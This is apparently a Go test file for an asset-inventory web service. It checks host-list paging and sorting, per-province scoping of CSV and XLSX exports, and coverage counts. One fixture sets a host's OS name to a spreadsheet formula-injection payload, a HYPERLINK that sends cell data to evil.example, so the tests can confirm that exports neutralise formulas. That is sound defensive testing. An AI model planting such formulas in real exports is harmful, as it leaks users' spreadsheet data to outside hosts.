package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"vigil/internal/asset"
	"vigil/internal/auth"
)

// importHosts adds n hosts without an agent to unit, named prefix-00...;
// the first has an OS name an attacker chose to run as a formula.
func importHosts(t *testing.T, w *world, unit, prefix string, n int) {
	t.Helper()
	var invs []*asset.Inventory
	for i := range n {
		inv := testInventory(fmt.Sprintf("%s-%02d", prefix, i), fmt.Sprintf("10.9.%d.%d", i/200, 1+i%200), time.Hour)
		if i == 0 {
			inv.OS.Name = `=HYPERLINK("http://evil.example/?"&A1,"bấm")`
		}
		invs = append(invs, inv)
	}
	if _, err := w.hub.Hosts.Import(auth.WithPrincipal(context.Background(), auth.System), unit, "test.json", invs); err != nil {
		t.Fatal(err)
	}
}

// readCSV decodes an export, checking its byte-order mark.
func readCSV(t *testing.T, r response) [][]string {
	t.Helper()
	expect(t, r, 200, "CSV export")
	if !bytes.HasPrefix(r.Body, []byte("\ufeff")) {
		t.Errorf("CSV has no byte-order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// readXLSX decodes an export's first sheet and fails on any formula cell.
func readXLSX(t *testing.T, r response) [][]string {
	t.Helper()
	expect(t, r, 200, "XLSX export")
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for j := range row {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("XLSX %s is a formula: %q", cell, fm)
			}
		}
	}
	return rows
}

// column returns the index of header in a table's first row.
func column(t *testing.T, rows [][]string, header string) int {
	t.Helper()
	for i, h := range rows[0] {
		if h == header {
			return i
		}
	}
	t.Fatalf("no column %q in %v", header, rows[0])
	return -1
}

// pageBoth follows a paged list's next cursors to the end and its prev
// cursors back to the start, checking the total and offsets on the way,
// and returns the ids in order.
func pageBoth(t *testing.T, w *world, actor, path string, total int, key string) []string {
	t.Helper()
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	var ids []string
	var pages []string
	cursor := ""
	for range 100 {
		r := w.call(actor, "GET", path+sep+"cursor="+url.QueryEscape(cursor), nil)
		if cursor == "" {
			r = w.call(actor, "GET", path, nil)
		}
		expect(t, r, 200, path)
		m := r.json(t)
		if m["total"] != float64(total) {
			t.Fatalf("%s: total %v, want %d", path, m["total"], total)
		}
		if m["offset"] != float64(len(ids)) {
			t.Fatalf("%s: offset %v after %d items", path, m["offset"], len(ids))
		}
		if (len(ids) == 0) != (m["prev"] == "") {
			t.Fatalf("%s: prev %q at offset %d", path, m["prev"], len(ids))
		}
		page := ""
		for _, it := range r.items(t) {
			ids = append(ids, fmt.Sprint(it[key]))
			page += fmt.Sprint(it[key]) + ","
		}
		pages = append(pages, page)
		cursor, _ = m["next"].(string)
		if cursor == "" {
			break
		}
		back := w.call(actor, "GET", path+sep+"cursor="+url.QueryEscape(cursor), nil).json(t)
		// The next page's prev leads back to this one.
		prev := w.call(actor, "GET", path+sep+"cursor="+url.QueryEscape(back["prev"].(string)), nil)
		got := ""
		for _, it := range prev.items(t) {
			got += fmt.Sprint(it[key]) + ","
		}
		if got != page {
			t.Fatalf("%s: prev of the next page is %s, want %s", path, got, page)
		}
	}
	if len(ids) != total {
		t.Fatalf("%s: paged through %d items, want %d", path, len(ids), total)
	}
	return ids
}

// TestHostsListPagesSortsAndExports pages the hosts both ways with the
// true total, sorts them, and exports what the filters select as CSV and
// XLSX, formula cells neutralised and scoped to the caller.
func TestHostsListPagesSortsAndExports(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		importHosts(t, w, "B", "-srv-b", 5) // with ws-b-01: 6 hosts in B
		names := pageBoth(t, w, "officerB", "/api/v1/hosts?limit=2&sort=hostname", 6, "hostname")
		want := "-srv-b-00,-srv-b-01,-srv-b-02,-srv-b-03,-srv-b-04,ws-b-01"
		if got := strings.Join(names, ","); got != want {
			t.Errorf("by host name: %s, want %s", got, want)
		}
		r := w.call("officerB", "GET", "/api/v1/hosts?limit=1&sort=hostname&order=desc", nil)
		if it := r.items(t); it[0]["hostname"] != "ws-b-01" {
			t.Errorf("descending starts with %v", it[0]["hostname"])
		}
		for _, sort := range []string{"unit", "os", "role", "last_seen", "agent_seen", "findings"} {
			expect(t, w.call("officerB", "GET", "/api/v1/hosts?sort="+sort+"&order=desc", nil), 200, "sort by "+sort)
		}
		expect(t, w.call("officerB", "GET", "/api/v1/hosts?sort=h.id%20DESC", nil), 400, "unknown sort")
		expect(t, w.call("officerB", "GET", "/api/v1/hosts?format=pdf", nil), 400, "unknown format")
		if m := w.call("officerA", "GET", "/api/v1/hosts", nil).json(t); m["total"] != float64(2) {
			t.Errorf("officer A counts %v hosts, want 2 (A and A1)", m["total"])
		}
		// A filter keeps its total: the agent-less imports.
		if m := w.call("officerB", "GET", "/api/v1/hosts?failing=agent&limit=1", nil).json(t); m["total"] != float64(5) {
			t.Errorf("failing agent: total %v, want 5", m["total"])
		}

		// CSV of a filtered, sorted list: Vietnamese headers, the rows the
		// filter selects in order, the formula cell as text.
		recs := readCSV(t, w.call("officerB", "GET", "/api/v1/hosts?format=csv&failing=agent&sort=hostname&order=desc", nil))
		if len(recs) != 6 {
			t.Fatalf("CSV: %d records, want a header and 5 hosts", len(recs))
		}
		name, osCol := column(t, recs, "Tên máy"), column(t, recs, "Hệ điều hành")
		if recs[1][name] != "'-srv-b-04" || recs[5][name] != "'-srv-b-00" {
			t.Errorf("CSV order or neutralisation: first %q, last %q", recs[1][name], recs[5][name])
		}
		if !strings.HasPrefix(recs[5][osCol], `'=HYPERLINK`) {
			t.Errorf("formula OS name written as %q", recs[5][osCol])
		}
		if recs := readCSV(t, w.call("officerB", "GET", "/api/v1/hosts?format=csv&lang=en", nil)); recs[0][1] != "Host name" || len(recs) != 7 {
			t.Errorf("English CSV: header %v, %d records", recs[0], len(recs))
		}
		// XLSX: the same hosts, strings only.
		rows := readXLSX(t, w.call("officerB", "GET", "/api/v1/hosts?format=xlsx&sort=hostname", nil))
		if len(rows) != 7 || rows[1][column(t, rows, "Tên máy")] != "-srv-b-00" {
			t.Errorf("XLSX: %d rows, first %v", len(rows), rows[1])
		}
		// The page links export what it shows.
		body := string(w.call("officerB", "GET", "/hosts?failing=agent&sort=hostname&limit=2", nil).Body)
		for _, want := range []string{"1–2 trên tổng 5", `rel="next"`, "format=csv", "failing=agent", `sort=os`} {
			if !strings.Contains(body, want) {
				t.Errorf("hosts page lacks %q", want)
			}
		}
		body = string(w.call("officerB", "GET", "/hosts?failing=agent&sort=hostname&limit=2&offset=4", nil).Body)
		if !strings.Contains(body, "5–5 trên tổng 5") || !strings.Contains(body, `rel="prev"`) || strings.Contains(body, `rel="next"`) {
			t.Errorf("last page of the hosts list: range or links wrong")
		}
		recs = readCSV(t, w.call("officerB", "GET", "/hosts?failing=agent&format=csv", nil))
		if len(recs) != 6 {
			t.Errorf("page export: %d records, want 6", len(recs))
		}
	})
}

// TestExportsAreScoped checks that an officer's export of every list
// never holds another province's rows, whatever the filter asks.
func TestExportsAreScoped(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		importHosts(t, w, "B", "srv-b", 3)
		for _, path := range []string{"/api/v1/hosts?format=csv", "/hosts?format=csv", "/api/v1/hosts?format=csv&q=srv-b",
			"/api/v1/units?format=csv", "/units?format=csv&q=B", "/api/v1/users?format=csv", "/users?format=csv&q=officerb"} {
			recs := readCSV(t, w.call("officerA", "GET", path, nil))
			for _, rec := range recs[1:] {
				if line := strings.Join(rec, ","); strings.Contains(line, "-b-") || strings.Contains(line, "Hà Nội") || strings.Contains(line, "officerb") || strings.Contains(line, "ITC") {
					t.Errorf("%s: officer A's export holds %v", path, rec)
				}
			}
		}
		expect(t, w.call("officerA", "GET", "/api/v1/hosts?format=csv&unit=B", nil), 404, "officer A exports B's hosts")
		if recs := readCSV(t, w.call("officerA", "GET", "/users?format=csv&unit=B", nil)); len(recs) != 1 {
			t.Errorf("officer A's export of B's users holds %d rows", len(recs)-1)
		}
	})
}

// TestCoverageCountsAreTrue fails more hosts than the coverage report
// lists: the count is the true total, the list says it shows part of it
// and links to the whole filtered hosts list, which counts the same.
func TestCoverageCountsAreTrue(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		importHosts(t, w, "A1", "pc-a1", 205) // no agent: failing "agent seen in 24 h"
		c := w.call("officerA", "GET", "/api/v1/units/A/coverage", nil).json(t)
		failing := c["failing"].(map[string]any)["agent"].([]any)
		total := c["failing_total"].(map[string]any)["agent"]
		hostsN, seen := c["hosts"].(float64), c["agent_seen"].(float64)
		if len(failing) != 200 || total != float64(206) || hostsN-seen != 206 {
			t.Fatalf("coverage: %d listed, failing_total %v, hosts-agent_seen %v; want 200, 206, 206", len(failing), total, hostsN-seen)
		}
		if m := w.call("officerA", "GET", "/api/v1/hosts?unit=A&failing=agent&limit=1", nil).json(t); m["total"] != float64(206) {
			t.Errorf("hosts list counts %v failing, coverage 206", m["total"])
		}
		body := string(w.call("officerA", "GET", "/units/A/coverage", nil).Body)
		for _, want := range []string{"— 206", "Hiển thị 200 trên tổng 206 máy", `/hosts?unit=A&amp;failing=agent`} {
			if !strings.Contains(body, want) {
				t.Errorf("coverage page lacks %q", want)
			}
		}
		if strings.Contains(body, "— 200<") {
			t.Errorf("coverage page shows the cap as the total")
		}
	})
}
